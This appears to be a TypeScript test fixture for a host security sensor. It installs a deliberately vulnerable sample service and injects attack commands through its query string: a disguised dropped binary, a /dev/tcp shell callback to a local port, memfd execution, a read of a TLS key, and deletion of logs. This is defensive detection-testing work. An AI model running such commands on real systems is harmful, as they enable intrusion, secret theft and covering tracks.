import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { chmod, copyFile, mkdir, writeFile } from 'node:fs/promises';
import { connect, createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { recordHead, recordType } from '../../../agent/core/normalise/sensor-record.ts';
import { buildProbe, type Group } from './sensor-rig.ts';

const run = promisify(execFile);

/** The same place on every machine, so that recordings do not differ by it. */
export const shopFolder = '/srv/whorl-shop';
const databasePort = 15432;
const dropPort = 14444;

export interface Shop {
  readonly port: number;
  readonly get: (path: string) => Promise<string>;
}

/** Installs the sample service (test/fixtures/sensor/shop.c). */
export async function installShop(): Promise<void> {
  for (const d of ['bin', 'etc', 'log', 'www']) await mkdir(join(shopFolder, d), { recursive: true });
  const shop = join(shopFolder, 'bin/shop');
  await run('gcc', [
    '-O1',
    '-static',
    '-o',
    shop,
    new URL('../../fixtures/sensor/shop.c', import.meta.url).pathname,
  ]);
  await copyFile(shop, join(shopFolder, 'bin/render'));
  await copyFile(await buildProbe(join(shopFolder, 'etc')), join(shopFolder, 'www/upload.bin'));
  await writeFile(join(shopFolder, 'bin/start'), '#!/bin/sh\nulimit -c 0\nexec bin/shop "$@"\n');
  await chmod(join(shopFolder, 'bin/start'), 0o755);
  await writeFile(join(shopFolder, 'etc/shop.conf'), 'name = shop\n');
  await writeFile(join(shopFolder, 'etc/tls.key'), 'not a key\n');
  await writeFile(join(shopFolder, 'www/index.html'), 'hello\n');
}

/** What the shop keeps a connection to, and where a stolen shell would call home. */
export async function startPeers(): Promise<Server[]> {
  const peers = [databasePort, dropPort].map((port) =>
    createServer((s) => s.on('error', () => undefined)).listen(port, '127.0.0.1'),
  );
  await Promise.all(peers.map((p) => once(p, 'listening')));
  return peers;
}

/** Starts one copy in a cgroup; it ends with the group. */
export async function startShop(group: Group, port: number): Promise<Shop> {
  const args = ['-i', 'PATH=/usr/bin:/bin', 'bin/start', String(port), String(databasePort)];
  void group.run('/usr/bin/env', args, { cwd: shopFolder });
  const shop = { port, get: (path: string) => get(port, path) };
  for (let i = 0; i < 200 && !(await isUp(port)); i++)
    await new Promise((resolve) => setTimeout(resolve, 20));
  return shop;
}

async function isUp(port: number): Promise<boolean> {
  return get(port, '/').then(
    (page) => page.includes('hello'),
    () => false,
  );
}

/** By hand, not fetch(): what follows the first `?` is not to be quoted, and no proxy is to be asked. */
async function get(port: number, path: string): Promise<string> {
  const socket = connect(port, '127.0.0.1');
  let text = '';
  socket.setEncoding('utf8').on('data', (part: string) => {
    text += part;
  });
  socket.write(`GET ${path} HTTP/1.0\r\n\r\n`);
  await once(socket, 'close');
  return text;
}

export async function ordinaryLife(shop: Shop): Promise<void> {
  for (const path of ['/', '/render', '/', '/render']) await shop.get(path);
}

/** Through the flaw of the service: each command runs in a shell that the shop starts. */
const attackCommands: readonly string[] = [
  'cp www/upload.bin /tmp/.cache-update && chmod 755 /tmp/.cache-update && /tmp/.cache-update nothing',
  `/bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/${dropPort}; echo hello >&3'`,
  'www/upload.bin memfd-exec',
  'cat etc/tls.key > /dev/null',
  'rm -f /tmp/.cache-update log/access.log',
];

export async function attack(shop: Shop): Promise<void> {
  for (const command of attackCommands) await shop.get(`/x?${command}`);
}

/** Only what concerns these cgroups: a recording must not hold other processes of the machine it was made on. */
export function only(raw: Buffer, cgroups: ReadonlySet<number>): Buffer {
  const kept: Buffer[] = [];
  for (let at = 0; at + recordHead.size <= raw.length; ) {
    const length = raw.readUInt32LE(at);
    if (length < recordHead.size) break;
    const record = raw.subarray(at, at + length);
    if (isOf(record, cgroups)) kept.push(record);
    at += length;
  }
  return Buffer.concat(kept);
}

function isOf(record: Buffer, cgroups: ReadonlySet<number>): boolean {
  const type = record.readUInt16LE(recordHead.type);
  if (type === recordType.hello || type === recordType.ready) return true;
  if (type === recordType.cgroup) return cgroups.has(Number(record.readBigUInt64LE(recordHead.b)));
  return cgroups.has(Number(record.readBigUInt64LE(recordHead.cgroup)));
}
